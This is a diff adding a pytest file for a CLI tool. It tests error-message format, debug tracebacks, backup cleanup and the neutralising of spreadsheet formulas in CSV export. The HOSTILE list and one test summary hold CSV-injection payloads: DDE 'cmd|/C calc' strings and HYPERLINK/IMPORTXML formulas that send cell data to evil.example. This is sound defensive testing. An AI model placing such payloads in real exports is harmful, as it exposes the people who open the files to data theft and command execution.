@@ -1,0 +1,128 @@
+"""The CLI's error contract: one line, the right exit status, a traceback only
+on request; and CSV output that a spreadsheet cannot run."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime
+
+import pytest
+from click.testing import CliRunner
+
+from watcher.cli import main
+from watcher.exceptions import WatcherError
+from watcher.files import csv_cell, csv_row
+from watcher.models import CollectedItem
+from watcher.store.items import save_item
+
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_formula_cells_get_a_leading_quote(value):
+    assert csv_cell(value) == "'" + value
+
+
+def test_other_cells_are_kept_as_they_are():
+    assert csv_row(["Appel à projets", 42, None, "", "a=b", "3-4"]) == [
+        "Appel à projets",
+        42,
+        None,
+        "",
+        "a=b",
+        "3-4",
+    ]
+    assert csv_row({"title": "=1", "id": 7}) == {"title": "'=1", "id": 7}
+
+
+def test_export_csv_neutralises_titles_from_the_web(store):
+    for number, title in enumerate(HOSTILE):
+        save_item(
+            store,
+            CollectedItem(
+                source_id="s",
+                url=f"https://example.org/{number}",
+                title=title,
+                text=f"Texte {number}",
+                summary='=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
+            ),
+            now=datetime(2026, 11, 24, tzinfo=UTC),
+        )
+    result = CliRunner().invoke(main, ["export", "--format", "csv", "--db", str(store.path)])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+    assert len(rows) == len(HOSTILE)
+    assert all(row["title"].startswith("'") for row in rows), [row["title"] for row in rows]
+    assert "'" + HOSTILE[0] in [row["title"] for row in rows]
+    assert all(row["summary"].startswith("'=IMPORTXML") for row in rows)
+
+
+def _boom(*_args, **_kwargs):
+    raise RuntimeError("something nobody expected\nsecond line")
+
+
+def test_an_unexpected_error_is_one_line_and_exit_1(store, monkeypatch):
+    monkeypatch.delenv("WATCHER_DEBUG", raising=False)
+    monkeypatch.setattr("watcher.store.items.export_rows", _boom)
+    result = CliRunner().invoke(main, ["export", "--db", str(store.path)])
+    assert result.exit_code == 1
+    assert result.stderr == (
+        "Error: unexpected RuntimeError: something nobody expected (this is a bug; "
+        "`watcher --debug …` or WATCHER_DEBUG=1 shows the traceback)\n"
+    )
+
+
+@pytest.mark.parametrize(
+    ("args", "env"),
+    [
+        (["--debug", "export"], {}),
+        (["export", "--debug"], {}),
+        (["export"], {"WATCHER_DEBUG": "1"}),
+    ],
+)
+def test_debug_shows_the_traceback(store, monkeypatch, args, env):
+    monkeypatch.setattr("watcher.store.items.export_rows", _boom)
+    result = CliRunner().invoke(main, [*args, "--db", str(store.path)], env=env)
+    assert isinstance(result.exception, RuntimeError)  # raised, so Python prints its traceback
+
+
+def test_a_file_error_names_the_file(tmp_path, store):
+    blocker = tmp_path / "blocker"
+    blocker.write_text("a file where a folder should be\n", encoding="utf-8")
+    result = CliRunner().invoke(
+        main, ["backup", "--db", str(store.path), "--to", str(blocker / "b")]
+    )
+    assert result.exit_code == 1
+    assert result.stderr == f"Error: {blocker}: is a file, where a folder is needed\n"
+
+
+def test_a_failed_backup_leaves_nothing_that_looks_like_a_backup(tmp_path, store):
+    from watcher.schedule.ops import backup
+    from watcher.settings import Settings
+
+    model = tmp_path / "model"
+    model.mkdir()
+    (model / "model.joblib").write_bytes(b"x")
+    (model / "gone").symlink_to(tmp_path / "nowhere")  # copytree fails on it, at the end
+    settings = Settings.model_validate({"classify": {"model_dir": str(model)}})
+    with pytest.raises(OSError):
+        backup(store, settings, tmp_path / "bk" / "one")
+    assert list((tmp_path / "bk").iterdir()) == []
+
+    (model / "gone").unlink()
+    report = backup(store, settings, tmp_path / "bk" / "one")
+    assert sorted(p.name for p in report.folder.iterdir()) == [
+        "manifest.json",
+        "model",
+        "watcher.db",
+    ]
+    with pytest.raises(WatcherError, match="already exists and is not an empty folder"):
+        backup(store, settings, tmp_path / "bk" / "one")
